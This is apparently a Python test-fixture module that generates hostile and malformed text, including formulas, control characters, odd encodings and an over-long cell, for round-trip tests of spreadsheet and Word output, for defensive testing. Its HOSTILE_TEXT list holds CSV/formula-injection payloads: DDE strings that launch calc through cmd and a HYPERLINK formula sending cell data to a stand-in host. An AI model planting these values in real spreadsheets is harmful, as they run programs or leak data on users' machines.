"""Hostile and accidental text, and the files that carry it, made at test time.

Text a spreadsheet program could take for something else: formulas (a link that sends a cell to
another site, DDE that starts a program), the signs Excel starts a formula with, error values,
numbers and dates in disguise, characters XML cannot hold, a file name in no encoding, and text
as long as a cell holds. Each must come back from every workbook caseforms writes exactly as it
was written (a name in no encoding with the replacement character where it cannot be held).
"""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

from docx import Document

LINK = '=HYPERLINK("http://x.example/?"&B2,"Open")'
#: The three action plan cells of the issue ("Safe with hostile and accidental input", fault 3).
ACTION_PLAN_FORMULAS = (LINK, "=1+1", "=2*21")
#: A name typed into the register as text (with the apostrophe Excel hides).
NAME_AS_FORMULA = "=1+1+1+1+1"
#: The longest text a cell holds (32,767 characters).
LONGEST = "long " * 6552 + "text!"

HOSTILE_TEXT: tuple[str, ...] = (
    LINK,
    "=1+1",
    "=2*21",
    NAME_AS_FORMULA,
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "+44 7700 900123",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\r\n=2*21",
    "#REF!",
    "#N/A",
    "'=1+1",
    "0123",
    "1/2",
    "TRUE",
    "2025-06-02",
    "_x0041_ is not A",
    "bell\x07, escape\x1b, null\x00, vertical tab\x0b, form feed\x0c and \x1f unit separator",
    "Zoë Ørsted-Łukasz 😀",
    "no encoding \udcff",
    LONGEST,
)


def as_written(text: str) -> str:
    """Return what ``text`` must read back as: itself, with a character no file can hold made visible."""
    return text.replace("\udcff", "\ufffd")


def short(text: str) -> str:
    """Return a hostile text short enough for a name (file names, sheet headings): the long one cut."""
    return text if len(text) < 200 else text[:40]


def action_plan(path: Path, actions: Sequence[str], owner: str = "Thornbury Community Health") -> Path:
    """Write a Word action plan whose Action cells hold ``actions`` as typed."""
    document = Document()
    document.add_heading("Rapid Review action plan", 1)
    table = document.add_table(rows=1, cols=5)
    for cell, heading in zip(table.rows[0].cells, ("No.", "Action", "Owner agency", "Named lead", "Due"), strict=True):
        cell.text = heading
    for n, text in enumerate(actions, start=1):
        for cell, value in zip(table.add_row().cells, (str(n), text, owner, "Ada Fictional", "31/03/2026"), strict=True):
            cell.text = value
    document.save(str(path))
    return path


def typed_as_text(cell: Any, text: str) -> None:
    """Store ``text`` in an openpyxl cell as Excel stores what an officer types after an apostrophe: as text."""
    from caseforms.io.cell_text import xml_escape

    cell.value = None
    cell._value = xml_escape(as_written(text))  # no file holds a lone surrogate: Excel could not have typed one
    cell.data_type = "s"
